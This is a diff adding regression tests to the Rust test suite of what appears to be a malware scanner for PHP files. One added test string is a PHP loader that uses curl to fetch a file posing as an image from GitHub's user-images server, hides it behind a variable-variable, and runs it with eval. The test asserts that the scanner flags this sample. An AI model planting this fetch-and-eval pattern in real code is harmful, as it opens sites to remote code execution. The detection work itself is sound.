@@ -1539,6 +1539,14 @@ mod tests {
         // A link to a script on GitHub in a page that runs nothing.
         let link = "<?php echo '<a href=\"https://raw.githubusercontent.com/x/y/main/install.php\">get it</a>';";
         assert!(whys("a.php", link).is_empty());
+        // Regression: fresh103's `mmek.php` fetches a picture from GitHub's file server into a
+        // variable named by a table (`${$GLOBALS['x']}`) and runs it as a page.
+        let picture = "<?php $GLOBALS['k'] = 'a'; function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n\
+            ${$GLOBALS['k']} = get('https://user-images.githubusercontent.com/1/2-3.jpg');\neval('?>' . ${$GLOBALS['k']});";
+        assert!(whys("a.php", picture).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", picture));
+        // A picture from there shown in a page is a picture.
+        let shown = "<?php $p = file_get_contents('https://user-images.githubusercontent.com/1/2-3.jpg'); echo base64_encode($p);";
+        assert!(whys("a.php", shown).is_empty());
     }
 
     #[test]
